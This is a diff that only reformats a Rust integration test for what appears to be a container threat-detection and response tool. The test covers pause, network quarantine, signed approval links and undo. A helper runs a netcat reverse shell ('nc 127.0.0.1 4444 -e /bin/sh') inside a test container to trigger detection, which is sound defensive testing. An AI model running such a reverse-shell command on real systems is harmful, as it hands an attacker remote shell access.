@@ -145,7 +145,14 @@ impl AgentProcess {
             .arg(state)
             .args(["--node", node, "--flush-interval-ms", "50"])
             .args(["--disable", "docker-logs", "--disable", "cri"])
-            .args(["--disable", "audit", "--disable", "host", "--disable", "falco"])
+            .args([
+                "--disable",
+                "audit",
+                "--disable",
+                "host",
+                "--disable",
+                "falco",
+            ])
             .env("CROWSNEST_LOG", "warn")
             .stdin(Stdio::null())
             .stdout(Stdio::null())
@@ -243,7 +250,14 @@ fn victim(name: &str, extra: &[&str]) -> Container {
 
 /// The reverse shell: a shell handed to a TCP connection.
 fn reverse_shell(name: &str) {
-    docker(&["exec", "-d", name, "sh", "-c", "nc 127.0.0.1 4444 -e /bin/sh"]);
+    docker(&[
+        "exec",
+        "-d",
+        name,
+        "sh",
+        "-c",
+        "nc 127.0.0.1 4444 -e /bin/sh",
+    ]);
 }
 
 fn time(value: &Value) -> chrono::DateTime<chrono::Utc> {
@@ -338,7 +352,14 @@ actions = [
             &static_ip,
         ],
     );
-    docker(&["network", "connect", "--alias", "second-alias", &net_b, &name]);
+    docker(&[
+        "network",
+        "connect",
+        "--alias",
+        "second-alias",
+        &net_b,
+        &name,
+    ]);
     let before = networks(&name);
     assert_eq!(before.len(), 2, "{before:?}");
 
@@ -407,18 +428,37 @@ actions = [
     let id = quarantine["action"]["id"].as_str().expect("id").to_string();
 
     // Undo the pause through the API.
-    let undone = post(&server, &format!("/api/v1/respond/actions/{}/undo", pause["action"]["id"].as_str().expect("id")), json!({}));
+    let undone = post(
+        &server,
+        &format!(
+            "/api/v1/respond/actions/{}/undo",
+            pause["action"]["id"].as_str().expect("id")
+        ),
+        json!({}),
+    );
     assert_eq!(undone["action"]["state"], "undone", "{undone:#}");
     assert!(!paused(&name));
 
     // The signed link: its page approves nothing; its form does, once.
     let shown = get(&server, &format!("/api/v1/respond/actions/{id}"));
-    let link = shown["approval_link"].as_str().expect("approval link").to_string();
-    assert!(link.starts_with(&format!("http://127.0.0.1:{port}/api/v1/respond/approve?token=")));
-    let page = ureq::get(&link).call().expect("GET link").into_string().expect("page");
+    let link = shown["approval_link"]
+        .as_str()
+        .expect("approval link")
+        .to_string();
+    assert!(link.starts_with(&format!(
+        "http://127.0.0.1:{port}/api/v1/respond/approve?token="
+    )));
+    let page = ureq::get(&link)
+        .call()
+        .expect("GET link")
+        .into_string()
+        .expect("page");
     assert!(page.contains("<form method=\"post\""), "{page}");
     std::thread::sleep(Duration::from_millis(500));
-    assert_eq!(get(&server, &format!("/api/v1/respond/actions/{id}"))["state"], "pending");
+    assert_eq!(
+        get(&server, &format!("/api/v1/respond/actions/{id}"))["state"],
+        "pending"
+    );
     assert_eq!(networks(&name), before);
     let token_value = link.split("token=").nth(1).expect("token").to_string();
     let approved = ureq::post(&format!("{}/api/v1/respond/approve", server.url))
@@ -440,7 +480,11 @@ actions = [
     let executed = get(&server, &format!("/api/v1/respond/actions/{id}"));
     assert_eq!(executed["approved_by"], "approval link", "{executed:#}");
     // Undo: the same networks, aliases and static address.
-    let undone = post(&server, &format!("/api/v1/respond/actions/{id}/undo"), json!({}));
+    let undone = post(
+        &server,
+        &format!("/api/v1/respond/actions/{id}/undo"),
+        json!({}),
+    );
     assert_eq!(undone["action"]["state"], "undone", "{undone:#}");
     assert_eq!(networks(&name), before);
 
@@ -460,7 +504,10 @@ actions = [
     assert_eq!(networks(&name), before);
     let after = get(&server, "/api/v1/respond/actions?limit=1000");
     assert_eq!(after["actions"].as_array().map(Vec::len), count);
-    assert_eq!(action(&actions_of(&server, &name), "pause")["state"], "undone");
+    assert_eq!(
+        action(&actions_of(&server, &name), "pause")["state"],
+        "undone"
+    );
 
     // Five at once: three automatic slots left, then approval.
     let names: Vec<String> = (0..5).map(|i| unique(&format!("cn-five{i}"))).collect();
@@ -489,7 +536,9 @@ actions = [
             })
             .collect();
         let settled = pauses.len() == 5
-            && pauses.iter().all(|a| a["state"] == "executed" || a["state"] == "pending");
+            && pauses
+                .iter()
+                .all(|a| a["state"] == "executed" || a["state"] == "pending");
         if settled {
             break pauses;
         }
